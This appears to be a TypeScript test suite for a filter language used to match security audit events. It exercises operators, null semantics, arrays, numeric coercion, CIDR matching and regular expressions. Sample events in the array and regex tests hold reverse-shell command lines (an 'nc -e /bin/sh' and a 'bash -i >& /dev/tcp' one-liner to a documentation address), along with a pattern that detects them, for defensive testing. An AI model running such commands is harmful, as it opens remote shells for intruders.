import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { EventRecord } from '../src/index.js';
import { compileFilter, EVENT_FIELDS } from '../src/index.js';

/** Asserts which of the events a filter matches, by index. */
function matches(filter: string, events: readonly EventRecord[], expected: readonly boolean[]): void {
  const f = compileFilter(filter);
  assert.deepEqual(
    events.map((e) => f.test(e)),
    expected,
    filter,
  );
}

const proc = (extra: EventRecord = {}): EventRecord => ({
  event_type: 'audit',
  syscall: 'execve',
  user: 'alice',
  uid: 1001,
  command: 'sudo',
  exe: '/usr/bin/sudo',
  args: ['sudo', 'systemctl', 'restart', 'nginx'],
  tty: 'pts/0',
  session: 42,
  success: true,
  ...extra,
});

describe('comparison operators', () => {
  test('= and != on strings are exact and case-sensitive', () => {
    const events = [proc(), proc({ command: 'Sudo' }), proc({ command: 'sudoedit' })];
    matches("command = 'sudo'", events, [true, false, false]);
    matches('command != "sudo"', events, [false, true, true]);
    matches('command == "sudo"', events, [true, false, false]);
    matches('command <> "sudo"', events, [false, true, true]);
  });

  test('<, <=, >, >= on numbers', () => {
    const events = [proc({ uid: 0 }), proc({ uid: 999 }), proc({ uid: 1000 }), proc({ uid: 65534 })];
    matches('uid < 1000', events, [true, true, false, false]);
    matches('uid <= 1000', events, [true, true, true, false]);
    matches('uid > 999', events, [false, false, true, true]);
    matches('uid >= 999', events, [false, true, true, true]);
    matches('uid > 0 and uid < 1000', events, [false, true, false, false]);
    matches('uid >= -1.5e0', events, [true, true, true, true]);
  });

  test('<, > on string fields compare as text, or as numbers with a number literal', () => {
    const events = [proc({ user: 'bob' }), proc({ user: 'carol' }), proc({ user: '10' }), proc({ user: '9' })];
    matches('user < "c"', events, [true, false, true, true]);
    matches('user >= "carol"', events, [false, true, false, false]);
    matches('user > 9', events, [false, false, true, false]);
  });

  test('starts_with, ends_with, contains', () => {
    const events = [proc({ exe: '/tmp/x' }), proc({ exe: '/usr/bin/x' }), proc({ exe: '/var/tmp/x' })];
    matches('exe starts_with "/tmp/"', events, [true, false, false]);
    matches('exe ends_with "/x"', events, [true, true, true]);
    matches('exe contains "tmp"', events, [true, false, true]);
    matches('exe not contains "tmp"', events, [false, true, false]);
    matches('exe not starts_with "/tmp/"', events, [false, true, true]);
    matches('exe not ends_with "bin/x"', events, [true, false, true]);
  });

  test('in and not in', () => {
    const events = [proc({ command: 'apt' }), proc({ command: 'dpkg' }), proc({ command: 'vim' }), proc({ command: undefined })];
    matches('command in ("apt", "dpkg")', events, [true, true, false, false]);
    matches('command not in ("apt", "dpkg")', events, [false, false, true, true]);
    matches("command in ('vim')", events, [false, false, true, false]);
    matches('command in ("vim", null)', events, [false, false, true, true]);
    matches('dst_port in (22, "443")', [{ dst_port: 22 }, { dst_port: 443 }, { dst_port: 80 }], [true, true, false]);
  });

  test('keywords are case-insensitive; field names and values are not', () => {
    const events = [proc(), proc({ user: 'root' })];
    matches('user = "alice" OR user = "bob"', events, [true, false]);
    matches('user = "alice" Or NOT user In ("root")', events, [true, false]);
    matches('command STARTS_WITH "su" AND command Ends_With "do" aNd command CONTAINS "ud"', events, [true, true]);
    matches('command LIKE "su%" and user NOT LIKE "r%"', events, [true, false]);
    matches('user MATCHES "^a" or tty = NULL or success = TRUE', events, [true, true]);
  });
});

describe('precedence and grouping', () => {
  const t = (a: boolean, b: boolean, c: boolean): EventRecord => ({ user: a ? 'a' : 'x', command: b ? 'b' : 'x', exe: c ? 'c' : 'x' });
  const all = [t(false, false, false), t(false, false, true), t(false, true, false), t(false, true, true), t(true, false, false), t(true, false, true), t(true, true, false), t(true, true, true)];
  const A = 'user = "a"';
  const B = 'command = "b"';
  const C = 'exe = "c"';

  test('and binds tighter than or', () => {
    const expected = all.map((_, i) => Boolean(i & 4) || (Boolean(i & 2) && Boolean(i & 1)));
    matches(`${A} or ${B} and ${C}`, all, expected);
    matches(`${A} or (${B} and ${C})`, all, expected);
    matches(`(${A} or ${B}) and ${C}`, all, all.map((_, i) => (Boolean(i & 4) || Boolean(i & 2)) && Boolean(i & 1)));
  });

  test('not binds tighter than and', () => {
    matches(`not ${A} and ${B}`, all, all.map((_, i) => !(i & 4) && Boolean(i & 2)));
    matches(`not (${A} and ${B})`, all, all.map((_, i) => !((i & 4) && (i & 2))));
    matches(`not not ${A}`, all, all.map((_, i) => Boolean(i & 4)));
    matches(`not ${A} or not ${B} and ${C}`, all, all.map((_, i) => !(i & 4) || (!(i & 2) && Boolean(i & 1))));
  });

  test('whitespace and newlines are free-form', () => {
    matches(`(\n\t${A}\r\n  or${' '}(${B}))and(${C})`, all, all.map((_, i) => (Boolean(i & 4) || Boolean(i & 2)) && Boolean(i & 1)));
    matches('user="a"and(command="b")', [t(true, true, false), t(true, false, false)], [true, false]);
  });
});

describe('strings and escapes', () => {
  test('single and double quotes', () => {
    matches(`arguments = 'say "hi"'`, [{ args: ['say', '"hi"'] }], [true]);
    matches(`arguments = "it's"`, [{ args: ["it's"] }], [true]);
  });

  test('backslash escapes', () => {
    matches(String.raw`arguments = 'it\'s'`, [{ arguments: "it's" }], [true]);
    matches(String.raw`arguments = "a \"b\""`, [{ arguments: 'a "b"' }], [true]);
    matches(String.raw`arguments = "C:\\temp"`, [{ arguments: 'C:\\temp' }], [true]);
    matches(String.raw`arguments = "a\tb\nc\rd"`, [{ arguments: 'a\tb\nc\rd' }], [true]);
  });

  test('unknown escapes keep their backslash (so regular expressions need no doubling)', () => {
    matches(String.raw`arguments = "\d"`, [{ arguments: '\\d' }, { arguments: 'd' }], [true, false]);
    matches(String.raw`arguments matches "^\d+\.\d+$"`, [{ arguments: '3.14' }, { arguments: '3x14' }], [true, false]);
    matches(String.raw`arguments matches "^\\d$"`, [{ arguments: '7' }], [true]);
  });

  test('empty strings and unicode', () => {
    matches('tty = ""', [{ tty: '' }, { tty: 'pts/0' }, {}], [true, false, false]);
    matches('user = "jürgen" and arguments contains "→"', [{ user: 'jürgen', args: ['echo', 'a→b'] }], [true]);
  });
});

describe('null semantics (a missing field is null)', () => {
  const events: EventRecord[] = [{ tty: 'pts/0' }, { tty: null }, {}, { tty: '(none)' }];

  test('= null and != null test presence', () => {
    matches('tty = null', events, [false, true, true, false]);
    matches('tty != null', events, [true, false, false, true]);
  });

  test('other comparisons with a missing field are false, and their negations true', () => {
    matches('tty = "pts/0"', events, [true, false, false, false]);
    matches('tty != "pts/0"', events, [false, true, true, true]);
    matches('tty starts_with "pts"', events, [true, false, false, false]);
    matches('tty not starts_with "pts"', events, [false, true, true, true]);
    matches('uid < 5', [{ uid: 1 }, {}], [true, false]);
    matches('not uid < 5', [{ uid: 1 }, {}], [false, true]);
    matches('tty in ("pts/0", "pts/1")', events, [true, false, false, false]);
    matches('tty not in (null, "(none)")', events, [true, false, false, false]);
  });

  test("Threat Stack's suppression example", () => {
    const f = compileFilter("user = 'root' AND tty = null AND exe = '/usr/sbin/chronyd'");
    assert.equal(f.test({ user: 'root', exe: '/usr/sbin/chronyd' }), true);
    assert.equal(f.test({ user: 'root', exe: '/usr/sbin/chronyd', tty: 'pts/1' }), false);
  });
});

describe('array fields (any element matches)', () => {
  const nc: EventRecord = { command: 'nc', args: ['nc', '-e', '/bin/sh', '203.0.113.5', '4444'] };
  const ls: EventRecord = { command: 'ls', args: ['ls', '-la'] };
  const empty: EventRecord = { command: 'true', args: [] };
  const none: EventRecord = { command: 'true' };
  const events = [nc, ls, empty, none];

  test('comparisons match when any element matches', () => {
    matches('args = "-e"', events, [true, false, false, false]);
    matches('args in ("-e", "-c")', events, [true, false, false, false]);
    matches('args starts_with "/bin/"', events, [true, false, false, false]);
    matches('args matches "^-l"', events, [false, true, false, false]);
    matches('args like "-_a"', events, [false, true, false, false]);
    matches('args = 4444', events, [true, false, false, false]);
  });

  test('negations match when no element matches; an empty array is not null', () => {
    matches('args != "-e"', events, [false, true, true, true]);
    matches('args not in ("-e", "-c")', events, [false, true, true, true]);
    matches('args = null', events, [false, false, false, true]);
    matches('args != null', events, [true, true, true, false]);
  });

  test('two conditions on one array can match different elements', () => {
    const f = compileFilter('args in ("systemctl", "service") and args in ("stop", "disable")');
    assert.equal(f.test({ args: ['systemctl', 'stop', 'auditd'] }), true);
    assert.equal(f.test({ args: ['systemctl', 'start', 'auditd'] }), false);
  });

  test('an array where a scalar was expected is also compared element-wise', () => {
    matches('user = "bob"', [{ user: ['alice', 'bob'] }, { user: ['alice'] }], [true, false]);
  });

  test('arguments is args joined by spaces unless the event sends it', () => {
    matches('arguments = "nc -e /bin/sh 203.0.113.5 4444"', events, [true, false, false, false]);
    matches('arguments = ""', events, [false, false, true, false]);
    matches('arguments starts_with "rpm -q"', [{ args: ['rpm', '-qa'] }, { arguments: 'rpm -qi x', args: ['other'] }], [true, true]);
    matches('parent_arguments contains "-i"', [{ parent_args: ['bash', '-i'] }, { parent_arguments: 'sh -i' }, {}], [true, true, false]);
  });
});

describe('numbers and coercion', () => {
  test('numeric strings on either side are numbers for number fields', () => {
    matches('session = "4294967295"', [{ session: 4294967295 }, { session: '4294967295' }, { session: 1 }], [true, true, false]);
    matches('session = 4294967295', [{ session: '4294967295' }, { session: ' 4294967295 ' }], [true, true]);
    matches('dst_port > "1024"', [{ dst_port: '4444' }, { dst_port: 80 }], [true, false]);
  });

  test('values that are not numbers do not match number comparisons', () => {
    matches('uid = 0', [{ uid: 'root' }, { uid: '' }, { uid: '0x0' }, { uid: true }, { uid: 0 }], [false, false, false, false, true]);
    matches('uid != 0', [{ uid: 'root' }, { uid: 0 }], [true, false]);
    matches('uid < 10', [{ uid: 'abc' }, { uid: Number.NaN }, { uid: 5n }], [false, false, true]);
  });

  test('decimals and negative numbers', () => {
    matches('timestamp >= 1.5', [{ timestamp: 1.5 }, { timestamp: 1.49 }], [true, false]);
    matches('pid != -1', [{ pid: -1 }, { pid: 10 }], [false, true]);
    matches('timestamp > 1e3', [{ timestamp: 1001 }, { timestamp: 999 }], [true, false]);
  });

  test('numbers against string fields compare as their text', () => {
    matches('sigid = 5902', [{ sigid: '5902' }, { sigid: 5902 }, { sigid: '05902' }], [true, true, false]);
    matches('user = "0"', [{ user: 0 }], [true]);
  });

  test('booleans accept true/false, 1/0 and their strings', () => {
    const events: EventRecord[] = [{ success: true }, { success: false }, { success: 1 }, { success: 'false' }, { success: 'yes' }, {}];
    matches('success = true', events, [true, false, true, false, false, false]);
    matches('success = false', events, [false, true, false, true, false, false]);
    matches('success != true', events, [false, true, false, true, true, true]);
    matches('success = 1', events, [true, false, true, false, false, false]);
    matches('success in ("false", null)', events, [false, true, false, true, false, true]);
  });
});

describe('IP fields and CIDR', () => {
  const v4 = ['10.1.2.3', '192.168.10.20', '203.0.113.7', '::ffff:10.9.9.9', '127.0.0.1'].map((ip) => ({ dst_ip: ip }));

  test('IPv4 blocks, unquoted or quoted', () => {
    matches('dst_ip = 10.0.0.0/8', v4, [true, false, false, true, false]);
    matches('dst_ip = "10.0.0.0/8"', v4, [true, false, false, true, false]);
    matches('dst_ip != 10.0.0.0/8', v4, [false, true, true, false, true]);
    matches('dst_ip in (10.0.0.0/8, "192.168.0.0/16")', v4, [true, true, false, true, false]);
    matches('dst_ip not in (10.0.0.0/8, 192.168.0.0/16, 127.0.0.0/8)', v4, [false, false, true, false, false]);
    matches('dst_ip = 0.0.0.0/0', v4, [true, true, true, true, true]);
  });

  test('bare addresses are blocks of one, compared after normalisation', () => {
    matches('dst_ip = 203.0.113.7', v4, [false, false, true, false, false]);
    matches('dst_ip = "10.9.9.9"', v4, [false, false, false, true, false]);
    matches('dst_ip = 10.1.2.3/32', v4, [true, false, false, false, false]);
    matches('dst_ip = 10.1.2.99/24', v4, [true, false, false, false, false]);
    matches('dst_ip = ::ffff:10.1.2.3', v4, [true, false, false, false, false]);
  });

  test('IPv6 prefixes', () => {
    const v6 = ['fe80::1', 'FE80::abcd:1%eth0', '2001:db8::1', '2001:db8:0:0:0:0:0:1', '::1', 'fec0::1', '10.0.0.1'].map((ip) => ({ src_ip: ip }));
    matches('src_ip = fe80::/10', v6, [true, true, false, false, false, false, false]);
    matches('src_ip != fe80::/10', v6, [false, false, true, true, true, true, true]);
    matches('src_ip = 2001:db8::1', v6, [false, false, true, true, false, false, false]);
    matches('src_ip = "2001:DB8::/32"', v6, [false, false, true, true, false, false, false]);
    matches('src_ip in (::1/128, fc00::/7)', v6, [false, false, false, false, true, false, false]);
    matches('src_ip = ::/0', v6, [true, true, true, true, true, true, false]);
  });

  test('addresses that do not parse never match, and null is missing', () => {
    const events: EventRecord[] = [{ dst_ip: 'not-an-ip' }, { dst_ip: 42 }, {}, { dst_ip: '10.0.0.1/8' }];
    matches('dst_ip = 10.0.0.0/8', events, [false, false, false, true]);
    matches('dst_ip != 10.0.0.0/8', events, [true, true, true, false]);
    matches('dst_ip = null', events, [false, false, true, false]);
    matches('dst_ip in (10.0.0.0/8, null)', events, [false, false, true, true]);
  });

  test('string operators see the address as text', () => {
    matches('dst_ip not starts_with "10."', v4, [false, true, true, true, true]);
    matches('dst_ip like "%.7"', v4, [false, false, true, false, false]);
    matches('dst_ip matches "^192\\.168\\."', v4, [false, true, false, false, false]);
  });

  test('derived ip and port are the remote address and the service port', () => {
    const connect = { event_type: 'connect', src_ip: '10.0.0.5', dst_ip: '203.0.113.9', dst_port: 4444 };
    const accept = { event_type: 'accept', src_ip: '198.51.100.4', dst_ip: '10.0.0.5', dst_port: 22 };
    matches('ip = 203.0.113.9 and port = 4444', [connect, accept], [true, false]);
    matches('ip = 198.51.100.4 and port = 22', [connect, accept], [false, true]);
    matches('ip = 192.0.2.1', [{ ...connect, ip: '192.0.2.1' }], [true]);
  });
});

describe('like', () => {
  test('% and _ wildcards, anchored and case-sensitive', () => {
    const names = ['/tmp/go-build123/b001/exe/main', '/tmp/go-build/x', '/TMP/go-build1/exe/a', 'x/tmp/go-build1/exe/a'].map((exe) => ({ exe }));
    matches('exe like "/tmp/go-build%/exe/%"', names, [true, false, false, false]);
    matches('exe like "/tmp/%"', names, [true, true, false, false]);
    matches('exe like "%/exe/%"', names, [true, false, true, true]);
    matches('exe like "/tmp/go-build_/%"', names, [false, false, false, false]);
    matches('exe like "/tmp/go-build___/%"', names, [true, false, false, false]);
    matches('exe not like "/tmp/%"', names, [false, false, true, true]);
  });

  test('escaped wildcards are literal', () => {
    const events = [{ filename: '100%' }, { filename: '1000' }, { filename: 'a_b' }, { filename: 'axb' }];
    matches(String.raw`filename like "100\%"`, events, [true, false, false, false]);
    matches(String.raw`filename like "a\_b"`, events, [false, false, true, false]);
    matches('filename like "a_b"', events, [false, false, true, true]);
  });
});

describe('regular expressions (matches)', () => {
  test('searches anywhere unless anchored', () => {
    const events = [{ arguments: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' }, { arguments: 'cat /dev/tcp' }];
    matches('arguments matches "/dev/(tcp|udp)/[^/ ]+/[0-9]+"', events, [true, false]);
    matches('arguments matches "^bash"', events, [true, false]);
    matches('arguments not matches "^bash"', events, [false, true]);
  });

  test('(?i) prefix ignores case', () => {
    matches('command matches "(?i)^python[0-9.]*$"', [{ command: 'Python3.11' }, { command: 'python3' }, { command: 'ipython' }], [true, true, false]);
    matches('command matches "^python"', [{ command: 'Python3' }], [false]);
  });
});

describe('field tables', () => {
  test('a custom table replaces EVENT_FIELDS', () => {
    const fields = { ...EVENT_FIELDS, team: { type: 'string' as const, description: 'owning team' } };
    assert.equal(compileFilter('team = "payments" and user = "root"', { fields }).test({ team: 'payments', user: 'root' }), true);
    assert.throws(() => compileFilter('user = "root"', { fields: { team: fields.team } }), /unknown field "user"/);
  });

  test('field names that shadow Object.prototype members read only own properties', () => {
    const fields = { constructor: { type: 'string' as const, description: 'x' } };
    const f = compileFilter('constructor = null', { fields });
    assert.equal(f.test({}), true);
    assert.equal(f.test({ constructor: 'x' }), false);
  });
});
